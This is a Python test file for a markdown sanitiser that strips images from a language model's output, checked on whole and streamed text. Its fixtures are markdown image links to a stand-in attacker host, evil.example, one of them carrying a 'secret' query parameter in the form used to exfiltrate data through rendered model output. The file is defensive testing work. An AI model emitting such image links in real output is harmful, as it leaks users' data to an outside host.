"""Markdown of a model: no client that draws it fetches an image, however the text comes in pieces."""

import pytest
from markdown_it import MarkdownIt

from app.core.markdown import pieces_without_images, without_images

TEXTS = [
    "Tents ![t](http://evil.example/?q=secret) lead!",
    "![t][r]\n\n[r]: http://evil.example/r",
    "[![t](http://evil.example/p.png)](http://evil.example)",
    "\\![t](http://evil.example/p.png) !![t](http://evil.example/q.png)",
]


@pytest.mark.parametrize("text", TEXTS)
def test_an_image_is_text(text: str) -> None:
    assert "<img" in MarkdownIt().render(text.removeprefix("\\"))
    assert "<img" not in MarkdownIt().render(without_images(text))


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("size", [1, 2, 3])
def test_the_pieces_of_a_text_are_together_as_the_whole(text: str, size: int) -> None:
    shown: list[str] = []
    show = pieces_without_images(shown.append)
    for start in range(0, len(text), size):
        show(text[start : start + size])
        show("")
    assert "".join(shown) == without_images(text)
